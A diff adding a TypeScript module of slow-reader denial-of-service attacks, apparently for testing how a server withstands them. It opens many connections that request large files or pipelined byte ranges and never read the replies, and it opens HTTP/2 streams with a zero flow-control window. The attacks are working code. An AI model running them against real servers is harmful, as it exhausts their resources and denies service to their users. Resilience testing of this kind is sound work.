@@ -1,0 +1,116 @@
+import { once } from 'node:events';
+import { type ClientHttp2Session, connect as connectHttp2 } from 'node:http2';
+import { connect, type Socket } from 'node:net';
+import { setTimeout as wait } from 'node:timers/promises';
+
+/** Readers who ask for much and read nothing. Each attack goes on for `seconds`, and tells what came of it. */
+
+export interface ServingPort {
+  readonly host: string;
+  readonly port: number;
+}
+
+export interface Asked {
+  /** As `Host` says it. */
+  readonly host: string;
+  readonly path: string;
+  /** Of the file that is asked for, in bytes. */
+  readonly size: number;
+}
+
+export interface Attacked {
+  readonly connections: number;
+  readonly requests: number;
+  /** Connections that the server has ended, or would not have. */
+  readonly ended: number;
+  /** Streams of HTTP/2 that the server has refused or reset. */
+  readonly reset: number;
+}
+
+const DEFAULT_SECONDS = 15;
+/** Each connection from an address of its own among so many: loopback has them all. */
+const addressOf = (i: number, addresses: number) =>
+  addresses === 1 ? {} : { localAddress: `127.0.2.${1 + (i % addresses)}` };
+
+/** Ranges of a large file, pipelined in HTTP/1.1 and never read. */
+export async function pipelinedRanges(
+  edge: ServingPort,
+  { host, path, size }: Asked,
+  { connections = 14, requests = 1500, addresses = 1, seconds = DEFAULT_SECONDS } = {},
+): Promise<Attacked> {
+  const text = Array.from({ length: requests }, (_, i) => {
+    const first = i % size;
+    return `GET ${path} HTTP/1.1\r\nHost:${host}\r\nRange:bytes=${first}-\r\n\r\n`;
+  }).join('');
+  return unread(edge, text, { connections, requests: connections * requests, addresses, seconds });
+}
+
+/** So many connections that each ask once for a large file. */
+export function unreadFiles(
+  edge: ServingPort,
+  { host, path }: Asked,
+  { connections = 1000, addresses = 1, seconds = DEFAULT_SECONDS } = {},
+): Promise<Attacked> {
+  const text = `GET ${path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
+  return unread(edge, text, { connections, requests: connections, addresses, seconds });
+}
+
+/** Streams of HTTP/2 for a large file, on sessions that give the server no window. */
+export async function closedWindows(
+  edge: ServingPort,
+  { host, path }: Asked,
+  { sessions = 133, streams = 128, addresses = 1, seconds = DEFAULT_SECONDS } = {},
+): Promise<Attacked> {
+  const opened: ClientHttp2Session[] = [];
+  let ended = 0;
+  let reset = 0;
+  for (let i = 0; i < sessions; i++) {
+    const session = connectHttp2(`https://${edge.host}:${edge.port}`, {
+      rejectUnauthorized: false,
+      servername: host,
+      settings: { initialWindowSize: 0 },
+      ...addressOf(i, addresses),
+    });
+    session.on('error', () => {});
+    session.on('close', () => ended++);
+    opened.push(session);
+    await Promise.race([once(session, 'remoteSettings'), once(session, 'close')]).catch(() => {});
+    for (let k = 0; k < streams && !session.destroyed; k++) {
+      const stream = session.request({ ':path': path, ':authority': host });
+      stream.on('error', () => {});
+      stream.on('close', () => reset++);
+    }
+  }
+  await wait(seconds * 1000);
+  const result = { connections: sessions, requests: sessions * streams, ended, reset };
+  for (const session of opened) session.destroy();
+  return result;
+}
+
+async function unread(
+  { host, port }: ServingPort,
+  text: string,
+  {
+    connections,
+    requests,
+    addresses,
+    seconds,
+  }: { connections: number; requests: number; addresses: number; seconds: number },
+): Promise<Attacked> {
+  const opened: Socket[] = [];
+  let ended = 0;
+  for (let i = 0; i < connections; i++) {
+    const socket = connect({ host, port, ...addressOf(i, addresses) });
+    opened.push(socket);
+    socket.on('error', () => {});
+    socket.on('close', () => ended++);
+    // Without a listener for data nothing is read.
+    await Promise.race([once(socket, 'connect'), once(socket, 'close')]).catch(() => {});
+  }
+  // All at once: while the server reads from one of them, the others fill the buffers of the system.
+  for (const socket of opened) if (!socket.destroyed) socket.write(text);
+  await wait(seconds * 1000);
+  const result = { connections, requests, ended, reset: 0 };
+  for (const socket of opened) socket.destroy();
+  return result;
+}
